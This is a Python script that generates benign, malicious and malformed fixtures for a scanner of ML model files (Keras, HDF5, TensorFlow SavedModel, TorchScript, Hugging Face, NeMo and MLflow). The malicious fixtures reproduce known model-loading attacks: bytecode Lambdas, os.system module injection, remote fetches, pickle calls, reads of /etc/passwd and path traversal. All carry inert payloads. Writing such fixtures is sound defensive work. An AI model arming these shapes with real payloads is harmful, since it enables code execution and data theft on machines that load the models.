#!/usr/bin/env python3
"""Writes the fixtures of testdata/{keras,hdf5,tensorflow,torchscript,model_dirs}: Keras v3
archives and Keras 2 HDF5 models, plain HDF5 files, TF SavedModel protobufs, TorchScript-shaped
archives, and model directories with the code and configs that travel with models. Each fixture
goes to the folder of its format (`area()`), under benign/, malicious/ or malformed/.

Only writes bytes: JSON by hand in the real Keras 3 / Keras 2 shapes, HDF5 with h5py, protobufs
with the `protobuf` runtime and modules generated (grpcio-tools' protoc) from the vendored
src/proto/tensorflow/*.proto. Nothing is loaded, unpickled or executed. Malicious payloads are
inert (`os.system('true')`).

Usage: /work/venv/bin/python testdata/generate/keras_hdf5_tf_torchscript.py   (needs h5py, numpy, protobuf,
grpcio-tools)
"""
import base64
import io
import json
import marshal
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile

import h5py
import numpy as np

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
TESTDATA = os.path.join(ROOT, "testdata")
AREAS = ("keras", "hdf5", "tensorflow", "torchscript", "model_dirs")
PROTO = os.path.join(ROOT, "src", "proto")

FIXED_TIME = (2024, 1, 1, 0, 0, 0)


def area(name):
    """The format folder a fixture belongs to, by its (first path component's) name."""
    top = name.split("/")[0]
    if top.startswith("keras"):
        return "keras"
    if top.startswith("h5_") or top in ("plain_data.h5", "garbage.h5", "truncated.h5"):
        return "hdf5"
    if top.startswith("saved_model"):
        return "tensorflow"
    if top.startswith("torchscript") or top == "pytorch_model.bin":
        return "torchscript"
    return "model_dirs"


def path(kind, name):
    p = os.path.join(TESTDATA, area(name), kind, name)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    return p


def write(kind, name, data):
    with open(path(kind, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# Keras configs (Keras 3 shape)

def k3(module, cls, config, registered=None, **extra):
    d = {"module": module, "class_name": cls, "config": config, "registered_name": registered}
    d.update(extra)
    return d


def dense(name, units, activation="relu"):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": k3("keras", "DTypePolicy", {"name": "float32"}),
        "units": units, "activation": activation, "use_bias": True,
        "kernel_initializer": k3("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None,
    }, build_config={"input_shape": [None, 8]})


def input_layer(name, shape):
    return k3("keras.layers", "InputLayer", {"batch_shape": [None] + shape, "dtype": "float32",
                                              "sparse": False, "name": name})


def compile_config(loss="mean_squared_error"):
    return {
        "optimizer": k3("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001,
                                                      "beta_1": 0.9, "beta_2": 0.999}),
        "loss": loss, "loss_weights": None,
        "metrics": [k3("keras.metrics", "MeanAbsoluteError", {"name": "mae", "dtype": "float32"})],
        "weighted_metrics": None, "run_eagerly": False, "steps_per_execution": 1,
        "jit_compile": False,
    }


def sequential(name, layers, **extra):
    return k3("keras", "Sequential", {"name": name, "trainable": True,
                                       "dtype": k3("keras", "DTypePolicy", {"name": "float32"}),
                                       "layers": layers}, **extra)


def func_dump(fn):
    # Keras's python_utils.func_dump: base64 of the marshalled code object (with line breaks).
    return base64.encodebytes(marshal.dumps(fn.__code__)).decode("ascii")


# The inert payload, compiled under a fixed file name so the fixtures do not depend on where the
# generator runs.
_NS = {}
exec(compile("def payload(x):\n    return __import__('os').system('true') or x\n", "payload.py", "exec"), _NS)
payload = _NS["payload"]


def lambda_k3(name, fn):
    return k3("keras.layers", "Lambda", {
        "name": name, "trainable": True, "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": {"value": [func_dump(fn), None, None]}},
        "output_shape": None, "mask": None, "arguments": {},
    }, build_config={"input_shape": [None, 8]})


def weights_h5():
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        g = f.create_group("layers/dense/vars")
        g.create_dataset("0", data=np.zeros((8, 4), dtype="float32"))
        g.create_dataset("1", data=np.zeros((4,), dtype="float32"))
        f.create_group("optimizer/vars")
    return buf.getvalue()


def keras_archive(kind, name, config, weights=True):
    members = [
        ("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2024-01-01@00:00:00"})),
        ("config.json", json.dumps(config) if not isinstance(config, str) else config),
    ]
    if weights:
        members.append(("model.weights.h5", weights_h5()))
    write(kind, name, zip_bytes(members))


def keras_fixtures():
    benign = sequential("sequential", [input_layer("input_layer", [8]), dense("dense", 4),
                                       dense("dense_1", 1, "linear")],
                        build_config={"input_shape": [None, 8]}, compile_config=compile_config())
    keras_archive("benign", "keras_v3_sequential.keras", benign)

    # Functional model with a registered custom layer and a custom (builtins) activation function.
    custom = k3("keras", "Functional", {
        "name": "functional", "trainable": True,
        "layers": [
            {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 8], "name": "in"},
             "registered_name": None, "name": "in", "inbound_nodes": []},
            {"module": None, "class_name": "ScaleLayer", "config": {"name": "scale", "factor": 2.0},
             "registered_name": "my_pkg>ScaleLayer", "name": "scale",
             "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {"shape": [None, 8], "dtype": "float32", "keras_history": ["in", 0, 0]}}], "kwargs": {}}]},
            k3("keras.layers", "Dense", {"name": "out", "units": 1,
                                          "activation": {"module": "builtins", "class_name": "function", "config": "swishy", "registered_name": "function"}}),
        ],
        "input_layers": [["in", 0, 0]], "output_layers": [["out", 0, 0]],
    }, compile_config=compile_config({"module": "keras.losses", "class_name": "Huber", "config": {"delta": 1.0}, "registered_name": None}))
    keras_archive("benign", "keras_v3_functional_custom.keras", custom)

    keras_archive("malicious", "keras_v3_lambda.keras",
                  sequential("seq", [input_layer("in", [8]), lambda_k3("evil", payload), dense("d", 1)]))

    # Lambda nested three levels deep: Functional -> Sequential -> TimeDistributed -> Lambda.
    inner = sequential("inner", [k3("keras.layers", "TimeDistributed", {"name": "td", "layer": lambda_k3("deep_lambda", payload)})])
    nested = k3("keras", "Functional", {"name": "outer", "layers": [input_layer("in", [4, 8]), inner], "input_layers": [["in", 0, 0]], "output_layers": [["inner", 0, 0]]})
    keras_archive("malicious", "keras_v3_nested_lambda.keras", nested)

    # CVE-2025-1550 shape: arbitrary module/class in a layer config.
    inj = sequential("seq", [input_layer("in", [8]),
                             {"module": "os", "class_name": "system", "config": {"command": "true"}, "registered_name": "os>system"}])
    keras_archive("malicious", "keras_v3_module_injection.keras", inj)

    # CVE-2025-9906 shape: a Lambda calling keras.config.enable_unsafe_deserialization, then bytecode.
    unsafe = sequential("seq", [
        input_layer("in", [8]),
        k3("keras.layers", "Lambda", {"name": "disable_safe_mode", "function": {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}, "arguments": {}}),
        lambda_k3("then_run", payload),
    ])
    keras_archive("malicious", "keras_v3_unsafe_deserialization.keras", unsafe)

    # CVE-2025-8747 shape: keras.utils.get_file as the Lambda's function, with a URL argument.
    getfile = sequential("seq", [input_layer("in", [8]),
        k3("keras.layers", "Lambda", {"name": "fetch", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"},
                                      "arguments": {"origin": "http://example.invalid/payload.tar.gz", "extract": True}})])
    keras_archive("malicious", "keras_v3_get_file.keras", getfile)

    # CVE-2025-12058 shape: StringLookup vocabulary read from a local path.
    lookup = sequential("seq", [input_layer("in", [1]),
        k3("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd", "max_tokens": None, "num_oov_indices": 1})])
    keras_archive("malicious", "keras_v3_stringlookup_file.keras", lookup)

    # Lambda bytecode hidden in a custom loss in compile_config (not a layer).
    loss_lambda = sequential("seq", [input_layer("in", [8]), dense("d", 1)],
                             compile_config=compile_config({"class_name": "__lambda__", "config": {"value": [func_dump(payload), None, None]}}))
    keras_archive("malicious", "keras_v3_loss_lambda.keras", loss_lambda)

    # CVE-2025-49655 shape: TorchModuleWrapper carrying a (here inert, protocol-0) pickle.
    inert_pickle = b"cos\nsystem\n(S'true'\ntR."
    tmw = sequential("seq", [input_layer("in", [8]),
        k3("keras.layers", "TorchModuleWrapper", {"name": "torch_module", "module": base64.b64encode(inert_pickle).decode()})])
    keras_archive("malicious", "keras_v3_torch_module_wrapper.keras", tmw)

    # The top level is a plain dict: Keras still deserializes every nested object in it.
    keras_archive("malicious", "keras_v3_plain_top_level.keras",
                  {"note": "not a keras object at the top", "model": lambda_k3("hidden", payload)})

    # Malformed: invalid JSON, and a Lambda whose bytecode is garbage.
    keras_archive("malformed", "keras_v3_bad_json.keras", '{"module": "keras", "class_name": "Sequential", "config": {"layers": [', weights=False)
    bad_code = sequential("seq", [k3("keras.layers", "Lambda", {"name": "garbage", "function": {"class_name": "__lambda__", "config": {"value": ["bm90IG1hcnNoYWw=\n", None, None]}}})])
    keras_archive("malformed", "keras_v3_bad_bytecode.keras", bad_code, weights=False)


# ---------------------------------------------------------------------------------------------
# Keras 2 HDF5

def k2_model_config(layers):
    return {"class_name": "Sequential", "config": {"name": "sequential_1", "layers": layers}}


def k2_dense(name, units):
    return {"class_name": "Dense", "config": {"name": name, "trainable": True, "units": units, "activation": "relu",
                                              "use_bias": True, "kernel_initializer": {"class_name": "VarianceScaling", "config": {"scale": 1.0, "mode": "fan_avg", "distribution": "uniform", "seed": None}},
                                              "bias_initializer": {"class_name": "Zeros", "config": {}}}}


def k2_lambda(name, fn):
    return {"class_name": "Lambda", "config": {"name": name, "trainable": True, "function": [func_dump(fn), None, None],
                                               "function_type": "lambda", "module": "__main__", "output_shape": None,
                                               "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}


TRAINING_CONFIG = {"optimizer_config": {"class_name": "Adam", "config": {"lr": 0.001, "beta_1": 0.9}},
                   "loss": "categorical_crossentropy", "metrics": ["accuracy"], "sample_weight_mode": None, "loss_weights": None}


def keras2_h5(kind, name, layers, vlen=True):
    with h5py.File(path(kind, name), "w") as f:
        cfg = json.dumps(k2_model_config(layers))
        tcfg = json.dumps(TRAINING_CONFIG)
        if vlen:
            f.attrs["model_config"] = cfg
            f.attrs["training_config"] = tcfg
        else:  # older Keras wrote bytes: a fixed-length string attribute
            f.attrs["model_config"] = cfg.encode()
            f.attrs["training_config"] = tcfg.encode()
        f.attrs["keras_version"] = "2.0.5"
        f.attrs["backend"] = "tensorflow"
        mw = f.create_group("model_weights")
        mw.attrs["layer_names"] = np.array([b"dense_1"], dtype="|S7")
        g = mw.create_group("dense_1/dense_1")
        g.create_dataset("kernel:0", data=np.zeros((8, 4), dtype="float32"))


def hdf5_fixtures():
    keras2_h5("benign", "keras2_model.h5", [k2_dense("dense_1", 4), k2_dense("dense_2", 1)])
    keras2_h5("benign", "keras2_model_fixed_strings.hdf5", [k2_dense("dense_1", 4)], vlen=False)
    with h5py.File(path("benign", "plain_data.h5"), "w") as f:
        f.create_dataset("x", data=np.arange(16, dtype="int32"))
        f.create_group("meta").attrs["description"] = "plain numbers"
    keras2_h5("malicious", "keras2_lambda.h5", [k2_dense("dense_1", 4), k2_lambda("lambda_1", payload)])
    # The same HDF5 model behind a weights-file name: sniffed by signature, not extension.
    keras2_h5("malicious", "keras2_lambda_named.bin", [k2_lambda("lambda_1", payload)])
    # Keras 2 "raw" function resolved by module + name.
    keras2_h5("malicious", "keras2_raw_function.h5", [{"class_name": "Lambda", "config": {
        "name": "raw", "function": "system", "function_type": "raw", "module": "os", "arguments": {}}}])
    with h5py.File(path("malicious", "h5_external_link.h5"), "w") as f:
        f.create_dataset("x", data=np.zeros(4))
        f["leak"] = h5py.ExternalLink("/etc/passwd", "/")
    with h5py.File(path("malicious", "h5_external_storage.h5"), "w") as f:
        f.create_dataset("weights", shape=(4,), dtype="float32", external=[("/etc/hostname", 0, 16)])
    src = path("malicious", "h5_vds_source.h5")
    with h5py.File(src, "w") as f:
        f.create_dataset("data", data=np.arange(4, dtype="float32"))
    with h5py.File(path("malicious", "h5_virtual_dataset.h5"), "w") as f:
        layout = h5py.VirtualLayout(shape=(4,), dtype="float32")
        layout[:] = h5py.VirtualSource("../../../../etc/secrets.h5", "data", shape=(4,))
        f.create_virtual_dataset("v", layout)
    os.remove(src)
    good = open(path("benign", "plain_data.h5"), "rb").read()
    write("malformed", "truncated.h5", good[:300])
    write("malformed", "garbage.h5", b"\x89HDF\r\n\x1a\n" + bytes(range(256)) * 4)


# ---------------------------------------------------------------------------------------------
# TensorFlow SavedModel

def tf_modules():
    tmp = tempfile.mkdtemp()
    files = []
    for d, _, fs in os.walk(os.path.join(PROTO, "tensorflow")):
        files += [os.path.relpath(os.path.join(d, f), PROTO) for f in fs if f.endswith(".proto")]
    import grpc_tools
    inc = os.path.join(os.path.dirname(grpc_tools.__file__), "_proto")
    subprocess.check_call([sys.executable, "-m", "grpc_tools.protoc", f"-I{PROTO}", f"-I{inc}", f"--python_out={tmp}"] + files)
    sys.path.insert(0, tmp)
    from tensorflow.core.protobuf import saved_model_pb2, meta_graph_pb2, saver_pb2  # noqa
    from tensorflow.core.framework import function_pb2, graph_pb2, node_def_pb2, op_def_pb2  # noqa
    return saved_model_pb2, meta_graph_pb2, function_pb2, graph_pb2, op_def_pb2, saver_pb2


def tf_fixtures():
    saved_model_pb2, meta_graph_pb2, function_pb2, graph_pb2, op_def_pb2, saver_pb2 = tf_modules()

    def fn(name, ops):
        f = function_pb2.FunctionDef()
        f.signature.name = name
        for i, op in enumerate(ops):
            n = f.node_def.add()
            n.name = f"{op.lower()}_{i}"
            n.op = op
        return f

    def model(funcs, main_ops=("Placeholder", "StatefulPartitionedCall", "NoOp"), saver=None, keras_meta=None, assets=()):
        sm = saved_model_pb2.SavedModel()
        sm.saved_model_schema_version = 1
        mg = sm.meta_graphs.add()
        mg.meta_info_def.tags.append("serve")
        for i, (name, op) in enumerate(main_ops if isinstance(main_ops[0], tuple) else [(f"n{i}", o) for i, o in enumerate(main_ops)]):
            n = mg.graph_def.node.add()
            n.name = name
            n.op = op
        for f in funcs:
            mg.graph_def.library.function.add().CopyFrom(f)
        if saver:
            mg.saver_def.filename_tensor_name = "save/Const:0"
            mg.saver_def.save_tensor_name = "save/control_dependency:0"
            mg.saver_def.restore_op_name = "save/restore_all"
        if keras_meta is not None:
            node = mg.object_graph_def.nodes.add()
            node.user_object.identifier = "_tf_keras_layer"
            node.user_object.metadata = json.dumps(keras_meta)
        for a in assets:
            af = mg.asset_file_def.add()
            af.filename = a
            af.tensor_info.name = "asset_path:0"
        return sm.SerializeToString()

    call = fn("__inference_call_100", ["Placeholder", "ReadVariableOp", "MatMul", "BiasAdd", "Relu", "Identity"])
    save = fn("__inference__traced_save_200", ["StaticRegexFullMatch", "Const", "Select", "StringJoin", "ShardedFilename", "SaveV2", "MergeV2Checkpoints", "Identity", "NoOp"])
    restore = fn("__inference__traced_restore_201", ["RestoreV2", "Identity", "AssignVariableOp", "NoOp"])
    d = "saved_model_tf2"
    write("benign", f"{d}/saved_model.pb", model([call, save, restore], keras_meta={"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 4}}))
    write("benign", f"{d}/fingerprint.pb", b"\x08\x96\x01\x10\x02")
    write("benign", f"{d}/variables/variables.index", b"\x00\x00" + bytes(range(64)))
    # Tensor bytes that happen to start like a pickle: still data.
    write("benign", f"{d}/variables/variables.data-00000-of-00001", b"\x80\x02" + bytes(200))
    md = metadata_pb({"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}})
    write("benign", f"{d}/keras_metadata.pb", md)

    tf1 = model([], main_ops=(("x", "Placeholder"), ("w", "VariableV2"), ("y", "MatMul"),
                             ("save/Const", "Const"), ("save/SaveV2", "SaveV2"), ("save/RestoreV2", "RestoreV2"),
                             ("save/Assign", "Assign"), ("save/restore_all", "NoOp")), saver=True)
    write("benign", "saved_model_tf1/saved_model.pb", tf1)

    evil = fn("__inference_call_300", ["Placeholder", "EagerPyFunc", "Identity"])
    leak = fn("__inference_leak_301", ["Const", "ReadFile", "WriteFile", "MyCustomOp"])
    write("malicious", "saved_model_pyfunc/saved_model.pb", model([evil, leak, save, restore]))
    # SaveV2 outside the generated saver functions is a file write like any other.
    abuse = fn("__inference_serving_default_400", ["Const", "SaveV2", "Identity"])
    write("malicious", "saved_model_saver_outside/saved_model.pb", model([abuse, save, restore]))
    write("malicious", "saved_model_asset_traversal/saved_model.pb", model([call], assets=["../../../../etc/passwd"]))
    write("malicious", "saved_model_keras_lambda/keras_metadata.pb",
          metadata_pb({"name": "lambda", "class_name": "Lambda", "config": {"name": "lambda", "function": [func_dump(payload), None, None], "function_type": "lambda", "module": "__main__"}}))
    write("malicious", "saved_model_keras_lambda/saved_model.pb", model([call, save, restore]))
    write("malicious", "saved_model_text/saved_model.pbtxt",
          'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: "p"\n      op: "PyFunc"\n    }\n  }\n}\n')
    write("malformed", "saved_model_garbage/saved_model.pb", b"\x0a\xff\xff\xff\xff\x0f" + bytes(range(40)))
    write("malformed", "keras_metadata_garbage/keras_metadata.pb", b"\x0a\x05\x12\x03abc\xff")


def metadata_pb(meta):
    # keras_metadata.pb: SavedMetadata{ nodes: [SavedObject{node_id=2, node_path=3, identifier=4, metadata=5}] }
    def field(num, wire, payload):
        key = (num << 3) | wire
        return varint(key) + (varint(len(payload)) + payload if wire == 2 else payload)
    def varint(n):
        out = b""
        while True:
            b = n & 0x7F
            n >>= 7
            if n:
                out += bytes([b | 0x80])
            else:
                return out + bytes([b])
    obj = field(2, 0, varint(0)) + field(3, 2, b"root") + field(4, 2, b"_tf_keras_layer") + field(5, 2, json.dumps(meta).encode())
    return field(1, 2, obj)


# ---------------------------------------------------------------------------------------------
# TorchScript-shaped archives

TS_BENIGN = '''class Linear(Module):
  __parameters__ = ["weight", "bias", ]
  __buffers__ = []
  weight : Tensor
  bias : Tensor
  training : bool
  def forward(self: __torch__.Linear,
    x: Tensor) -> Tensor:
    _0 = torch.linear(x, self.weight, self.bias)
    return torch.relu(_0)
'''

TS_FROM_FILE = '''class Model(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.Model,
    x: Tensor) -> Tensor:
    # reads a host file into a tensor; "os.system" in a comment does not count
    leaked = torch.from_file("/etc/passwd", False, 4096, dtype=0)
    y = ops.evil_ns.run(x)
    return torch.add(x, leaked)
'''


def torchscript(kind, name, code, prefix="archive"):
    members = [
        (f"{prefix}/data.pkl", b"\x80\x02c__torch__\nLinear\nq\x00)\x81q\x01}q\x02X\x08\x00\x00\x00trainingq\x03\x89sb."),
        (f"{prefix}/code/__torch__.py", code),
        (f"{prefix}/code/__torch__.py.debug_pkl", b"\x80\x02)."),
        (f"{prefix}/constants.pkl", b"\x80\x02)."),
        (f"{prefix}/version", b"3\n"),
        (f"{prefix}/.data/version", b"3\n"),
    ]
    write(kind, name, zip_bytes(members))


def add_zip64_end_records(data):
    """Inserts a zip64 end-of-central-directory record and locator before the EOCD, as PyTorch's
    writer (miniz) does even for small archives."""
    import struct
    eocd = data.rfind(b"PK\x05\x06")
    _, _, n_disk, n, cd_size, cd_off, _ = struct.unpack("<HHHHIIH", data[eocd + 4:eocd + 22])
    rec = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, n_disk, n, cd_size, cd_off)
    loc = b"PK\x06\x07" + struct.pack("<IQI", 0, eocd, 1)
    return data[:eocd] + rec + loc + data[eocd:]


def torchscript_fixtures():
    torchscript("benign", "torchscript_linear.jit", TS_BENIGN)
    torchscript("benign", "torchscript_zip64_end.jit", TS_BENIGN)
    p = path("benign", "torchscript_zip64_end.jit")
    with open(p, "rb") as f:
        data = f.read()
    with open(p, "wb") as f:
        f.write(add_zip64_end_records(data))
    torchscript("malicious", "torchscript_from_file.jit", TS_FROM_FILE)
    # A TorchScript program named like weights (CVE-2025-32434 delivery).
    torchscript("malicious", "pytorch_model.bin", TS_BENIGN)


# ---------------------------------------------------------------------------------------------
# Code and configs that travel with models

HF_CONFIG = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 32, "num_attention_heads": 2,
             "num_hidden_layers": 2, "vocab_size": 100, "torch_dtype": "float32", "transformers_version": "4.46.0"}

MODELING_BENIGN = '''"""A custom model. Docstrings may mention os.system or eval( without effect."""
import math
import torch
from torch import nn


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.linear = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        self.eval()  # a method called eval is not the eval builtin
        return torch.tanh(self.linear(x)) * math.sqrt(2.0)
'''

MODELING_EVIL = '''import os
import subprocess
import torch
from torch import nn


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        os.system("true")
        subprocess.run(["true"])
        state = torch.load("extra.bin")
        exec("print('inert')")
'''


def code_fixtures():
    write("benign", "hf_model/config.json", json.dumps(HF_CONFIG, indent=2))
    write("benign", "hf_model/tokenizer_config.json", json.dumps({"model_max_length": 512, "do_lower_case": True, "tokenizer_class": "BertTokenizer"}))
    write("benign", "hf_model/generation_config.json", json.dumps({"max_length": 20}))
    write("benign", "hf_custom_code/config.json", json.dumps(dict(HF_CONFIG, auto_map={"AutoModel": "modeling_tiny.TinyModel"})))
    write("benign", "hf_custom_code/modeling_tiny.py", MODELING_BENIGN)
    write("malicious", "hf_remote_code/config.json", json.dumps(dict(HF_CONFIG, auto_map={
        "AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "someone/other-repo--modeling_evil.EvilModel"})))
    write("malicious", "hf_remote_code/modeling_evil.py", MODELING_EVIL)
    write("benign", "nemo_model/model_config.yaml", """
sample_rate: 16000
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: ${sample_rate}
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
optim:
  name: adamw
  sched:
    _target_: torch.optim.lr_scheduler.CosineAnnealingLR
    T_max: 100
""")
    write("malicious", "nemo_target/model_config.yaml", """
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
decoder:
  _target_: os.system
  command: "true"
tokenizer:
  _target_: unknown_pkg.Tokenizer
""")
    write("benign", "mlflow_model/MLmodel", """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.10.12
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.5.1
mlflow_version: 2.16.0
model_uuid: 0d5c0e7a3b2f4c1e9f6a2b7c8d9e0f1a
utc_time_created: '2024-01-01 00:00:00.000000'
""")
    write("benign", "mlflow_model/model.pkl", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00}\x94.")
    write("benign", "mlflow_model/conda.yaml", """channels:
- conda-forge
dependencies:
- python=3.10.12
- pip<=24.0
- pip:
  - mlflow==2.16.0
  - scikit-learn==1.5.1
name: mlflow-env
""")
    write("benign", "mlflow_model/python_env.yaml", "python: 3.10.12\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n")
    write("benign", "mlflow_model/requirements.txt", "mlflow==2.16.0\nscikit-learn==1.5.1\n")
    write("malicious", "mlflow_custom_loader/MLmodel", """artifact_path: model
flavors:
  python_function:
    loader_module: evil_loader
    code: code
    python_model: python_model.pkl
    python_version: 3.10.12
""")
    write("malicious", "mlflow_custom_loader/code/evil_loader.py", "import os\n\ndef _load_pyfunc(path):\n    os.system('true')\n")
    write("malicious", "requirements_extra_index/requirements.txt",
          "--extra-index-url https://pypi.example.invalid/simple\ntorch==2.5.1\ngit+https://example.invalid/evil/pkg.git\n")
    write("malformed", "bad_yaml/model_config.yaml", "model: {a: [1, 2\n  _target_: x\n")
    write("malformed", "bad_json/config.json", '{"auto_map": {"AutoModel": "m.X"')


def main():
    for a in AREAS:
        for kind in ("benign", "malicious", "malformed"):
            d = os.path.join(TESTDATA, a, kind)
            if os.path.isdir(d):
                shutil.rmtree(d)
    keras_fixtures()
    hdf5_fixtures()
    tf_fixtures()
    torchscript_fixtures()
    code_fixtures()


if __name__ == "__main__":
    main()
